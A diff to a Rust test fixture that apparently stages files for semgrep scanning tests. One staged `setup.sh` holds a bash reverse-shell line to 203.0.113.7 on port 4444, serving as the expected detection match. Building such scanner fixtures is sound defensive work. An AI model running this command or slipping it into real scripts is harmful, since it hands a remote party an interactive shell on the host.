@@ -54,6 +54,27 @@ impl TestCopy {
         self.add(extension, "(planted)", language, Origin::Planted, "")
     }
 
+    /// Two scripts, of which `setup.sh` holds the match that the recorded reports of semgrep tell of.
+    pub(crate) fn scripts(self) -> Self {
+        self.file("py", "scripts/a.py", Language::Python, "import json\nprint(json.dumps({}))\n")
+            .file(
+                "sh",
+                "setup.sh",
+                Language::Shell,
+                "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
+            )
+    }
+
+    /// The planted files of each language that semgrep reads.
+    pub(crate) fn planted_for_semgrep(self) -> Self {
+        self.planted("js", Language::JavaScript)
+            .planted("ts", Language::TypeScript)
+            .planted("tsx", Language::Tsx)
+            .planted("py", Language::Python)
+            .planted("sh", Language::Shell)
+            .planted("txt", Language::Text)
+    }
+
     /// Changes the last file.
     pub(crate) fn with(mut self, change: impl FnOnce(&mut StagedFile)) -> Self {
         change(self.copy.files.last_mut().unwrap());
